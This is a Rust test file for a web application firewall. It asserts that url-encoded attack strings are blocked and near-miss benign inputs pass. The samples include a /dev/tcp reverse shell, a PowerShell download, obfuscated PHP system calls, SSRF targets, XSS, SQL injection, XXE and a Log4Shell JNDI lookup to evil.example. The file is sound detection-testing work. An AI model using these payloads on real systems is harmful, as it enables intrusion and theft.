//! One test per attack class widened for the second detection pass (CRS
//! families that had gaps): the attack forms the rule must now catch, next
//! to the Phoenix-style near-misses it must still pass.

use super::test_support::{form, head, json, verdict, waf};
use super::*;

/// `q` (already url-encoded) as the value of a query argument.
fn query(w: &Waf, q: &str) -> Verdict {
    w.inspect_head(&head("GET", &format!("/search?q={q}"), &[]))
}

/// Checks each url-encoded value as a query argument and as a form field.
fn check(w: &Waf, attacks: &[&str], benign: &[&str]) {
    for a in attacks {
        let v = query(w, a);
        assert!(w.blocks(&v), "missed (query) {a}");
        let v = form(w, &format!("f={a}"));
        assert!(w.blocks(&v), "missed (form) {a}");
    }
    for b in benign {
        let v = query(w, b);
        assert!(
            !w.blocks(&v),
            "false positive (query) on {b}: {}",
            v.log_line()
        );
        let v = form(w, &format!("f={b}"));
        assert!(
            !w.blocks(&v),
            "false positive (form) on {b}: {}",
            v.log_line()
        );
    }
}

#[test]
fn unix_commands_after_subshells_globs_brace_lists_and_bin_paths() {
    let w = waf();
    check(
        &w,
        &[
            "d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F10.0.0.1%2F777",
            "x%3B%7B%20whoami%3B%20%7D",
            "ls%20%2Fe%5Bt%2F%2F%5Dc",
            "%7Bid%2C%7D",
            "%7Bcat%2C%2Fetc%2Fhostname%7D",
            "bin%2Fcscli",
            "usr%2Fbin%2Fwhoami",
            "%3Birb%3C%3C%3C1%2B2",
            "%3Bperf%20--version",
            "ansible-console%0A",
        ],
        &[
            "const%20%7Bid%2C%20name%7D%20%3D%20user",
            "%7Bid%2Cname%7D",
            "run%20bin%2Fsetup%20first",
            "bug%20fixes%3B%20perf%20improvements",
            "a%20(sh)%20sound",
            "see%20%5Bnote%5D%20below",
        ],
    );
}

#[test]
fn windows_for_loops_and_powershell_aliases() {
    let w = waf();
    check(
        &w,
        &[
            "FOR%20%2FF%20%22tokens%3D1%22%20%25%25%20IN%20(c%3A%5Cx.txt)%20DO%20ECHO%20%25%25",
            "%3Biwr%20http%3A%2F%2Fexample.com%2Fa.ps1",
            "%3Biwmi%20-class%20Win32_process",
            "%7C%20gci%20-recurse",
        ],
        &[
            "for%20all%20in%20(the%20list)",
            "gci%20fund%20report",
            "iwr%20form",
        ],
    );
}

#[test]
fn php_open_tags_functions_and_directives() {
    let w = waf();
    check(
        &w,
        &[
            "%3C%3F%20php%20echo%20%22x%22",
            "%3C%3F%09%09echo%20test",
            "%3C%3Fxml%20%3Aecho%201%3B",
            "FOOfsockopen()",
            "Shell_exec%3D(bla)",
            "assert_options%20(%0A%0A)",
            "intval(foo)",
            "chr(123)",
            "(%2F*%20c%20*%2Fsystem)(ls%2F*%20c%20*%2F)%3B",
            "%22%5Cx73y%5Cx73tem%22(ls)%3B",
            "unserialize_max_depth%3Dtrue",
        ],
        &[
            "%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Croot%2F%3E",
            "a%20%3C%3F%20b",
            "the%20shell%20executes%20(slowly)",
            "chrome%20(version%20124)",
            "max%20depth%20%3D%2010",
            "(optional)(see%20below)",
        ],
    );
}

#[test]
fn node_ssrf_and_infinite_loop_gadgets() {
    let w = waf();
    check(
        &w,
        &[
            "%23%7Brequire.main.constructor._load(foo)%7D",
            "process%5BmainModule",
            "while(-1)%3B",
            "ipv6-localhost%2F",
            "kubernetes.default.svc.cluster.local%2F",
            "http%3A%2F%2Fapi.default.svc.cluster.local%2Fadmin",
        ],
        &[
            "the%20main%20process",
            "require%20main%20approval",
            "while%20(waiting)",
            "localhost",
            "kubernetes%20default%20namespace",
        ],
    );
    let v = json(&w, r#"{ "data:text/plain":"foo" }"#);
    assert!(w.blocks(&v), "missed data: URI as a JSON key");
    let v = json(&w, r#"{ "data":"text/plain" }"#);
    assert!(!w.blocks(&v), "false positive: {}", v.log_line());
}

#[test]
fn xss_long_handlers_bracket_globals_xxe_and_pattern() {
    let w = waf();
    check(
        &w,
        &[
            "%3C%22onwebkitplaybacktargetavailabilitychanged%3D",
            "%3Cx%20onend%3D",
            "window%5B%22alert%22%5D(1)",
            "a%5B%22document%22%5D%5B%22cookie%22%5D",
            "foo!ENTITY%20%25%20bar%20SYSTEM",
            "%3Cinput%20pattern%3D%22%5Ea%24%22%3E",
        ],
        &[
            "online%3D",
            "%3Cp%20data-pattern%3D%22x%22%3Ehi%3C%2Fp%3E",
            "window%20%5Bsee%20docs%5D",
            "the%20entity%20system%20design",
        ],
    );
}

#[test]
fn sql_functions_system_databases_casts_and_json_operators() {
    let w = waf();
    check(
        &w,
        &[
            "DB_NAME(",
            "msdb",
            "concat%20(",
            "strcmp(",
            "password%3A%3Aint",
            "lo_get(16400)",
            "%3Btruncate%5Bxx",
            "%60%20REGEXP%20",
            "%60%20AS%20%60documentType%60%20FROM",
            "%2FCREATE%20TABLE%20Persons",
            "OR%20%27%7B%22a%22%3A%22b%22%7D%27%20%3F%7C%20array%5B%27a%27%5D",
            "4294967296",
        ],
        &[
            "list.concat(other)",
            "%40type%20t%20%3A%3A%20integer",
            "MyApp%3A%3AWeb",
            "Fixed%3B%20update%20(see%20notes)",
            "use%20%60foo%60%20as%20the%20name",
            "42949672",
            "msdbx",
        ],
    );
}

#[test]
fn log4shell_with_html_entities_in_json() {
    let w = waf();
    let v = json(&w, r#"{"foo": "$\u0026lbracejndi:ldap://evil.example/x}"}"#);
    assert!(w.blocks(&v), "missed entity-encoded JNDI lookup");
    let v = json(&w, r#"{"foo": "price in $ \u0026 euros"}"#);
    assert!(!w.blocks(&v), "false positive: {}", v.log_line());
}

#[test]
fn unicode_escapes_in_form_args_but_not_in_json_requests() {
    let w = waf();
    let v = form(&w, "testarg=%5Cu0061lert");
    assert!(w.blocks(&v), "missed \\u escape in a form argument");
    let h = head(
        "POST",
        "/?testarg=%5Cu0061lert",
        &[("content-type", "application/json")],
    );
    let v = verdict(&w, &h, b"");
    assert!(!w.blocks(&v), "false positive: {}", v.log_line());
}

#[test]
fn long_accept_encoding_and_rfc2109_cookies() {
    let w = waf();
    let long = format!("gzip,{}", "A".repeat(120));
    let v = w.inspect_head(&head("GET", "/", &[("accept-encoding", &long)]));
    assert!(w.blocks(&v), "missed a 125-byte Accept-Encoding");
    let v = w.inspect_head(&head(
        "GET",
        "/",
        &[("accept-encoding", "gzip, deflate, br, zstd")],
    ));
    assert!(!w.blocks(&v), "false positive: {}", v.log_line());
    let v = w.inspect_head(&head(
        "GET",
        "/",
        &[("cookie", "$Version=1; session=\"x; dummy=y\"")],
    ));
    assert!(w.blocks(&v), "missed a $Version cookie");
    let v = w.inspect_head(&head(
        "GET",
        "/",
        &[("cookie", "MyVersion=1; _app_key=abc")],
    ));
    assert!(!w.blocks(&v), "false positive: {}", v.log_line());
}

#[test]
fn restricted_upload_names_by_header() {
    let w = waf();
    for (n, f) in [
        ("x-filename", "config.yml "),
        ("x.filename", "dangerous.phpt"),
    ] {
        let v = w.inspect_head(&head("POST", "/upload", &[(n, f)]));
        assert!(w.blocks(&v), "missed upload name {f}");
    }
    for f in ["my-config.yml", "report.pdf"] {
        let v = w.inspect_head(&head("POST", "/upload", &[("x-filename", f)]));
        assert!(!w.blocks(&v), "false positive on {f}: {}", v.log_line());
    }
}
